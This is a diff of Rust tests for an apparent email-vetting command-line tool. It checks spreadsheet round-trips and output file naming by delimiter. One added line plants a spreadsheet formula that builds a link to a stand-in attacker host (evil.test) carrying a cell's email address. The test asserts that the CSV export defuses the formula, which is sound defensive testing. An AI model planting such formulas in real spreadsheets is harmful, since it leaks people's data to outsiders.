@@ -115,15 +115,36 @@ fn a_workbook_goes_in_and_comes_out() {
         sheet.write(row, 0, row).unwrap();
         sheet.write(row, 1, address).unwrap();
     }
+    sheet.write_string(4, 2, "=HYPERLINK(\"http://evil.test/?\"&B2,\"x\")").unwrap();
     let folder = folder_with("book.xlsx", book.save_to_buffer().unwrap());
     let output = vet(folder.path(), &["book.xlsx"]);
     assert!(said(&output).contains("XLSX workbook, sheet \"Sheet1\""), "{}", said(&output));
+    assert_eq!(names(&folder), ["book.vetted.xlsx", "book.xlsx"]);
+    vet(folder.path(), &["book.xlsx", "--format", "csv"]);
     let text = read(&folder, "book.vetted.csv");
     assert!(text.starts_with("Customers as of May\nid,E-Mail,verdict,"), "{text}");
     assert!(text.contains("3,jane.doe@acme.test,deliverable,send,"), "{text}");
-    vet(folder.path(), &["book.xlsx", "-o", "book.vetted.xlsx"]);
+    assert!(text.contains(",\"'=HYPERLINK("), "{text}");
     vet(folder.path(), &["book.vetted.xlsx", "--depth", "syntax", "-o", "again.csv"]);
-    assert!(read(&folder, "again.csv").contains("3,jane.doe@acme.test,deliverable,send,"));
+    let text = read(&folder, "again.csv");
+    assert!(text.starts_with("Customers as of May\nid,E-Mail,verdict,"), "{text}");
+    assert!(text.contains("3,jane.doe@acme.test,deliverable,send,"), "{text}");
+}
+
+#[test]
+fn a_text_file_keeps_its_ending_with_its_delimiter() {
+    let folder = folder_with("tabs.txt", "id\temail\n1\tjane.doe@acme.test\n");
+    let write = |name: &str, text: &str| fs::write(folder.path().join(name), text).unwrap();
+    write("plain.txt", "jane.doe@acme.test\n");
+    write("commas.txt", "id,email\n1,jane.doe@acme.test\n");
+    for (name, vetted) in [
+        ("tabs.txt", "tabs.vetted.txt"),
+        ("plain.txt", "plain.vetted.csv"),
+        ("commas.txt", "commas.vetted.csv"),
+    ] {
+        vet(folder.path(), &[name]);
+        assert!(read(&folder, vetted).contains("deliverable"), "{name}");
+    }
 }
 
 #[test]
